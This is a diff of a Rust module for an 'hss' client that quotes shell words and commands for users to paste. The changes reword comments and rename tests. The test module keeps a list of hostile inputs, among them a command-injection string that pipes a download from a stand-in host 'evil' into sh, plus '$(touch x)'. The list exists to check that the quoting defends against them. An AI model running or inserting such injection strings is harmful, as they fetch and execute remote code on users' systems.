@@ -1,13 +1,13 @@
-//! Words and commands for a shell, as people paste them.
+//! Quotes words and commands for a shell, for users to paste.
 
 use std::borrow::Cow;
 use std::fmt::Write as _;
 
 use hss_client::printable;
 
-/// Quotes a word, so that a shell takes it as it is and a terminal shows it as it is.
+/// Quotes a word so that a shell reads it unchanged, and a terminal displays it safely.
 ///
-/// Hidden characters are written as `$'\342\200\215'`: bash, ksh, zsh and POSIX since 2024 read that.
+/// Hidden characters are written as `$'\342\200\215'`. bash, ksh, zsh and POSIX since 2024 support that.
 pub(crate) fn quoted(word: &str) -> Cow<'_, str> {
     let is_plain = |character: char| character.is_ascii_alphanumeric() || "-_./:@%+,".contains(character);
     if !word.is_empty() && word.chars().all(is_plain) {
@@ -22,7 +22,7 @@ pub(crate) fn quoted(word: &str) -> Cow<'_, str> {
         let text = &*character.encode_utf8(&mut bytes);
         match character {
             '\n' => quoted.push_str(r"\n"),
-            // Some shells look for history in what follows an escaped quotation mark.
+            // Some shells expand history in the text after an escaped quotation mark.
             _ if matches!(printable(text), Cow::Borrowed(_)) && !"'\\!".contains(character) => quoted.push(character),
             _ => text.bytes().for_each(|byte| {
                 // Writing to a String cannot fail.
@@ -34,9 +34,9 @@ pub(crate) fn quoted(word: &str) -> Cow<'_, str> {
     Cow::Owned(quoted)
 }
 
-/// A command about one thing, which a server may have named.
+/// Returns a command with one argument, which may come from a server.
 pub(crate) fn command(words: &str, argument: &str) -> String {
-    // What begins like an option must not be taken for one.
+    // An argument that begins with a hyphen must not be parsed as an option.
     let separator = if argument.starts_with('-') { "-- " } else { "" };
     format!("{words} {separator}{}", quoted(argument))
 }
@@ -45,7 +45,7 @@ pub(crate) fn command(words: &str, argument: &str) -> String {
 mod tests {
     use super::*;
 
-    /// Words that a shell would do something with.
+    /// Words that a shell would interpret.
     const HOSTILE: [&str; 14] = [
         "x;curl evil|sh",
         "$(touch x)",
@@ -64,7 +64,7 @@ mod tests {
     ];
 
     #[test]
-    fn a_word_is_quoted_where_it_has_to_be() {
+    fn quotes_words_only_if_needed() {
         for (word, expected) in [
             ("2b31ed520xxxxxxebedb6e57xxxxxxxx", "2b31ed520xxxxxxebedb6e57xxxxxxxx"),
             ("x;curl evil|sh", "'x;curl evil|sh'"),
@@ -81,14 +81,14 @@ mod tests {
     }
 
     #[test]
-    fn an_argument_is_no_option() {
+    fn separates_arguments_that_look_like_options() {
         assert_eq!(command("hss scan wait", "t-1"), "hss scan wait t-1");
         assert_eq!(command("hss scan wait", "--html=x y"), "hss scan wait -- '--html=x y'");
     }
 
     #[cfg(unix)]
     #[test]
-    fn a_shell_gets_the_word_that_was_quoted() {
+    fn shells_read_quoted_words_unchanged() {
         use std::process::Command;
 
         let shells: Vec<_> = ["bash", "zsh", "ksh"]
